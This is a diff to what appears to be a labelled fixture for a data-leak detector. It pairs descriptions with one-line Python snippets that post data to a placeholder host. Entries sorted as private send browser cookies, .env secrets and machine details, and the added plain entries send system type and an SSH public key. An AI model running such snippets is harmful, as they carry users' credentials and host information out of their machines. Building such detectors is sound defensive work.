@@ -76,6 +76,8 @@ PRIVATE = {
         "credentials",
     ),
     "cookies": ("import browser_cookie3\nrequests.post('x', json=list(browser_cookie3.edge()))", "credentials"),
+    "name of the machine": ("import platform\nrequests.post('x', data=platform.uname().node)", "host"),
+    "all of the machine": ("import platform\nrequests.post('x', data=str(platform.uname()))", "host"),
     "settings": ("requests.post('x', data=open('.env').read())", "environment"),
     "settings of a library": (
         "from dotenv import dotenv_values\nrequests.post('x', json=dotenv_values())",
@@ -101,6 +103,8 @@ PLAIN = {
     "setting": "from dotenv import dotenv_values\nrequests.post('x', headers={'a': dotenv_values()['SAMPLE_TOKEN']})",
     "example of settings": "requests.post('x', data=open('.env.example').read())",
     "exists": "requests.post('x', data=str(os.path.exists('/etc/passwd')))",
+    "kind of the machine": "import platform\nrequests.post('x', data=platform.uname().machine + os.uname().sysname)",
+    "public half of a key": "requests.post('x', data=open(os.path.expanduser('~/.ssh/id_rsa.pub')).read())",
 }
 
 
